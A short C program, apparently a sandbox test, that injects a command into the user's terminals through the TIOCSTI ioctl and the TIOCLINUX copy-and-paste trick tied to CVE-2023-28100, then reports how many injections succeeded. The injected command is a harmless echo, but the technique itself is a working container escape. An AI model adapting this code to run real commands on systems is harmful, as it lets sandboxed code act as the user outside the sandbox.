/* typist - types a command into every terminal that it has open, as if its user had. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#define KEYS "echo typed by the container\n"
#define TIOCL_SETSEL 2
#define TIOCL_PASTESEL 3

static int type_into(int fd)
{
    char select[] = {TIOCL_SETSEL, 1, 0, 1, 0, 80, 0, 1, 0, 0, 0},
         paste = TIOCL_PASTESEL;

    for (const char *key = KEYS; *key != '\0'; key++)
        if (ioctl(fd, TIOCSTI, key) < 0)
            return 0;
    /* On a virtual console: what is on the screen, by copy and paste (CVE-2023-28100). */
    ioctl(fd, 0x541c /* TIOCLINUX */, select);
    ioctl(fd, 0x541c, &paste);
    return 1;
}

int main(void)
{
    int typed = 0, tty = open("/dev/tty", O_RDWR | O_NOCTTY);

    for (int fd = 0; fd < 3; fd++)
        typed += type_into(fd);
    if (tty >= 0)
        typed += type_into(tty);
    printf("TYPED %d\n", typed);
    return 0;
}
